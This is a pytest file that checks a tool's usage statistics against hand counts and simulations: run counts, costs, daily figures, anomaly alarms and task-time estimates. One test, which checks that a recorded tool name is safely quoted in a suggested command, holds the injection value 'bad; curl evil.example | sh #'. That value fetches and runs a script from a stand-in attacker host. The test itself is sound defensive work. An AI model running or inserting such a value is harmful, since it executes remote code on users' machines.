"""The statistics against known answers: sums by hand, rules held to their rates by simulation, estimates that hold."""

from __future__ import annotations

import math
import random
import shlex
import statistics
from datetime import UTC, datetime, timedelta
from itertools import pairwise

import numpy as np
import pytest

from alita_tui.spine.ports.statistics import EstimateAccuracy
from alita_tui.statistics import anomalies, chance
from alita_tui.statistics.advice import at_most
from alita_tui.statistics.days import day_numbers
from alita_tui.statistics.estimates import LEAST, Estimator, span_of
from alita_tui.statistics.records import Records
from alita_tui.statistics.report import period, report
from alita_tui.statistics.rows import Call, Run, SessionRows, Task, words_of
from alita_tui.view.statistics import lines_of
from tests.statistics.simulated import records, rows

NOW = datetime(2026, 11, 21, 12, tzinfo=UTC)


def put(*sessions: SessionRows) -> Records:
    made = Records()
    made.update(
        [str(n) for n in range(len(sessions))],
        [(str(n), f"id{n}", (n,), one) for n, one in enumerate(sessions)],
    )
    return made


def run(
    tool: str, kind: str = "", ms: float = 10.0, *, at: float = 0.0, seq: int = 1, reused: bool = True
) -> Run:
    return Run(at or NOW.timestamp() - 60, seq, 0, tool, 1, kind, ms, reused)


def test_the_figures_of_a_tool_agree_with_a_count_by_hand() -> None:
    durations = [float(n) for n in range(1, 101)]
    runs = [run("a", "timeout" if n < 7 else "", ms, seq=n, reused=n > 9) for n, ms in enumerate(durations)]
    runs += [run("a", "interrupted", math.nan), run("a", "sandbox", math.nan), run("b")]
    paid = Call(NOW.timestamp(), 400, 0, "toolsmith", "m:x", "", 70, 0, 0.5, True, 5.0, "a")
    unpriced = paid._replace(usd=math.nan, seq=401, tool="a")
    made = report(put(SessionRows(runs=runs, calls=[paid, unpriced])), period(NOW, 30))
    first, second = made.tools
    assert (first.name, first.count, first.judged, first.ok) == ("a", 102, 100, 93)
    assert (first.median_ms, first.p95_ms) == (50.0, 95.0)
    assert (first.usd, first.unpriced, first.tokens, first.reused) == (0.5, 1, 140, 92)
    assert {place.seq for place in first.places} >= set(range(7)) and first.places[0].session_id == "id0"
    assert (second.name, second.share, second.usd) == ("b", 1.0, None)
    assert {one.name: one.count for one in made.kinds} == {
        "run: timeout": 7,
        "run: interrupted": 1,
        "run: sandbox": 1,
    }
    assert (made.totals.usd, made.totals.unpriced, made.totals.reused) == (0.5, 1, 93)


def test_a_period_has_its_days_and_is_compared_with_the_one_before() -> None:
    day = 86_400
    ago = [0.1, 3, 29, 31, 58, 61]
    made = report(
        put(SessionRows(runs=[run("a", at=NOW.timestamp() - n * day, seq=int(n)) for n in ago])),
        period(NOW, 30),
    )
    assert (made.totals.runs, made.before.runs, len(made.days)) == (3, 2, 30)
    assert (made.days[0].day, made.days[-1].day) == ("2026-10-23", "2026-11-21")
    whole = report(
        put(SessionRows(runs=[run("a", at=NOW.timestamp() - n * day) for n in ago])), period(NOW, None)
    )
    assert (whole.totals.runs, whole.since, whole.before.runs) == (6, "", 0)


def test_a_day_has_its_tokens_its_unknown_prices_its_times_and_its_tasks() -> None:
    at = NOW.timestamp()
    tasks = [
        Task(at - n, n, 100 + n, "answered" if n else "stuck", float(n), 0, 0, (), False) for n in range(21)
    ]
    paid = Call(at, 400, 0, "orchestrator", "m:x", "", 70, 0, 0.5, True, 5.0, "")
    calls = [paid, paid._replace(usd=math.nan, seq=401), paid._replace(at=at - 3 * 86_400, tokens=5)]
    (*_, before, _, _, today) = report(put(SessionRows(tasks=tasks, calls=calls)), period(NOW, 30)).days
    assert (today.usd, today.unpriced, today.tokens, before.tokens) == (0.5, 1, 140, 5)
    assert (today.tasks, today.median_s, today.p95_s) == (21, 10.5, 19.0)
    assert [place.seq for place in today.places] == [100], "the one without an answer"
    (line,) = [
        one for one in lines_of(report(put(SessionRows(tasks=tasks, calls=calls)), period(NOW, 1)), "day")
    ]
    assert (line.p95_ms, line.tokens, line.unpriced) == (19_000.0, 140, 1) and line.places == today.places


def test_days_follow_local_time_across_clock_changes(monkeypatch: pytest.MonkeyPatch) -> None:
    import time

    monkeypatch.setenv("TZ", "Europe/Berlin")
    time.tzset()
    try:
        hours = [datetime(2026, 10, 24, 21, 30, tzinfo=UTC) + timedelta(minutes=17 * n) for n in range(200)]
        told = day_numbers(np.array([one.timestamp() for one in hours]))
        assert told.tolist() == [
            (one.astimezone().date() - datetime(1970, 1, 1, tzinfo=UTC).date()).days for one in hours
        ]  # the clocks change on the 25th
    finally:
        monkeypatch.undo()
        time.tzset()


@pytest.mark.parametrize("at", [0.0, -1e12, 1e18, math.nan, math.inf])
def test_an_impossible_time_raises_nothing(at: float) -> None:
    made = report(put(SessionRows(runs=[run("a")._replace(at=at)])), period(NOW, None))
    assert made.totals.runs == 1


def test_cached_rows_equal_the_read_ones_and_damaged_caches_are_ignored() -> None:
    made = records(20, NOW)
    raw = made.packed()
    again = Records.unpacked(raw)
    assert report(again, period(NOW, None)) == report(made, period(NOW, None))
    for place in range(0, len(raw), max(len(raw) // 97, 1)):
        broken = bytearray(raw)
        broken[place] ^= 0x41
        assert Records.unpacked(bytes(broken)).sessions == []
    assert all(Records.unpacked(raw[:size]).sessions == [] for size in (0, 3, 12, 40, len(raw) - 1))


def test_only_changed_sessions_are_read_again_and_deleted_ones_are_dropped_from_the_cache() -> None:
    made = records(10, NOW)
    whole = report(made, period(NOW, None))
    assert made.stale({one.name: one.stamp for one in made.sessions} | {"new": (1,)}) == ["new"]
    names = [one.name for one in made.sessions]
    rest = Records()
    start = (NOW - timedelta(days=3)).timestamp()
    rest.update(names, [(n, n, (1,), rows(7, start)) for n in names[:1]])
    gone = made.tables["runs"][: made.sessions[0].rows[0]]
    made.update(names[1:], [])
    after = report(made, period(NOW, None))
    assert after.totals.runs == whole.totals.runs - len(gone) and after.sessions == 9
    made.update([*names[1:], "x"], [("x", "x", (1,), rows(7, start))])
    assert (
        report(made, period(NOW, None)).totals.runs
        == after.totals.runs + report(rest, period(NOW, None)).totals.runs
    )


# --- the rules held to their rates ---------------------------------------------------------------


def test_the_exact_test_agrees_with_exact_probabilities() -> None:
    # the lady tasting tea: 4 of 4 right by chance once in 70 times, 3 or more in 17 of 70
    assert chance.tail(4, 4, 4, 8) == pytest.approx(1 / 70)
    assert chance.tail(3, 4, 4, 8) == pytest.approx(17 / 70)
    assert chance.tail(2, 4, 4, 8) == 1.0
    assert chance.tail(5, 5, 4, 8) == 0.0


def test_uniform_days_raise_a_false_alarm_less_than_once_in_twenty() -> None:
    alarms = 0
    for seed in range(60):
        alarms += bool(
            report(
                records(60, NOW, days=30, tasks=5, seed=seed + 1), period(NOW, 30), estimates=False
            ).anomalies
        )
    assert alarms <= 3


@pytest.mark.parametrize(("failing", "least"), [(0.8, 0.9), (0.5, 0.6)])
def test_a_day_on_which_a_tool_breaks_is_found(failing: float, least: float) -> None:
    found = 0
    for seed in range(100):
        rng = random.Random(seed)
        made = []
        for day in range(30):
            rate = failing if day == 17 else 0.03
            for n in range(10):
                at = NOW.timestamp() - (29 - day) * 86_400 + n
                made.append(run("fx_rates", "error" if rng.random() < rate else "", at=at, seq=day * 100 + n))
        told = report(put(SessionRows(runs=made)), period(NOW, 30), estimates=False).anomalies
        found += [(one.name, one.day) for one in told] == [("fx_rates", "2026-11-09")]
    assert found / 100 >= least


def test_a_day_at_four_times_the_usual_cost_is_found_with_its_dearest_calls() -> None:
    found = 0
    for seed in range(100):
        rng = random.Random(seed)
        calls = [
            Call(NOW.timestamp() - (29 - day) * 86_400, day + 1, 0, "planner", "m:x", "", 10, 0,
                 (4.0 if day == 12 else 1.0) * rng.lognormvariate(0, 0.2), True, 5.0, "")
            for day in range(30)
        ]  # fmt: skip
        told = report(put(SessionRows(calls=calls)), period(NOW, 30), estimates=False).anomalies
        found += [(one.what, one.day, one.places[0].seq) for one in told] == [("cost", "2026-11-04", 13)]
    assert found >= 90


def test_little_evidence_gives_no_finding() -> None:
    day = 86_400
    calls = [
        Call(NOW.timestamp() - n * day, 1, 0, "planner", "m:x", "", 1, 0, usd, True, 1.0, "")
        for n, usd in enumerate([9.0, *[0.01] * (anomalies.LEAST_DAYS - 1)])
    ]
    runs = [run("a", "error", seq=n) for n in range(4)] + [
        run("a", at=NOW.timestamp() - day) for _ in range(3)
    ]
    made = report(put(SessionRows(calls=calls, runs=runs)), period(NOW, 30))
    assert made.anomalies == () and made.advice == ()


def test_advice_is_based_on_rows_that_support_it() -> None:
    runs = [run("good", seq=n) for n in range(50)] + [
        run("bad", "error" if n % 3 else "", seq=n) for n in range(30)
    ]
    (one,) = report(put(SessionRows(runs=runs)), period(NOW, 30)).advice
    assert one.command == "alita tools improve bad" and one.tool == "bad" and "20 of 30" in one.text
    assert {place.seq % 3 for place in one.places} == {1, 2}


def test_a_recorded_name_is_one_quoted_word_of_the_copied_command() -> None:
    name = "bad; curl evil.example | sh #"
    (one,) = report(
        put(SessionRows(runs=[run(name, "error", seq=n) for n in range(30)])), period(NOW, 30)
    ).advice
    assert shlex.split(one.command) == ["alita", "tools", "improve", name]


def test_the_interval_of_a_share_is_that_of_wilson() -> None:
    assert at_most(0, 10) == pytest.approx(0.2775, abs=1e-3)
    assert at_most(10, 10) == pytest.approx(1.0)


# --- estimates ------------------------------------------------------------------------------------


def test_eight_of_ten_values_lie_in_the_span_of_earlier_ones() -> None:
    rng = random.Random(3)
    for count in (9, 14, 30, 60):
        inside = []
        for _ in range(2_000):
            sample = [rng.lognormvariate(0, 1) for _ in range(count + 1)]
            span = span_of(sample[:-1])
            assert span is not None
            inside.append(span[0] <= sample[-1] <= span[2])
        ranks = max((count + 1) // 10, 1)
        assert statistics.mean(inside) == pytest.approx(1 - 2 * ranks / (count + 1), abs=0.03)
    assert span_of([1.0] * (LEAST - 1) + [math.nan]) is None


def test_estimates_from_similar_tasks_are_accurate() -> None:
    made = Estimator(records(400, NOW, tasks=6))
    chart, euros = (
        made.estimate("Chart the rainfall of Oslo as bars"),
        made.estimate("Convert the amounts of Oslo from dollars to euros"),
    )
    assert chart.alike and euros.alike and chart.seconds and euros.seconds
    assert 25 < chart.seconds[1] < 50 and 5 < euros.seconds[1] < 12
    assert chart.seconds[0] < chart.seconds[1] < chart.seconds[2] and len(chart.places) == 20
    strange = made.estimate("Zzyzx qwertz")
    assert not strange.alike and strange.count
    held = made.accuracy()
    assert held.tasks == 100 and 0.68 <= held.seconds_in / held.seconds_of <= 0.92


def test_nothing_is_estimated_from_few_or_later_tasks() -> None:
    few = Estimator(records(1, NOW, tasks=LEAST - 1))
    assert few.estimate("Chart the rainfall of Oslo").count == 0 and few.accuracy() == EstimateAccuracy()
    at = NOW.timestamp()
    words = words_of("Chart the rainfall")
    same = [Task(at, n, n + 1, "answered", 50.0, 0, 0, words, False) for n in range(30)]
    assert (
        Estimator(put(SessionRows(tasks=same))).accuracy().tasks == 0
    )  # side by side: none ended before another began


def test_figures_of_a_report_add_up_over_days_tools_and_models() -> None:
    made = records(80, NOW, days=25, tasks=4)
    whole = report(made, period(NOW, 30))
    assert sum(one.tasks for one in whole.days) == whole.totals.tasks
    assert (
        sum(one.count for one in whole.tools)
        == whole.totals.runs
        == sum(sum(one.trend) for one in whole.tools)
    )
    assert sum(one.usd or 0 for one in whole.models) == pytest.approx(whole.totals.usd)
    assert sum(one.usd for one in whole.days) == pytest.approx(whole.totals.usd)
    assert all(a.count >= b.count for a, b in pairwise(whole.tools))
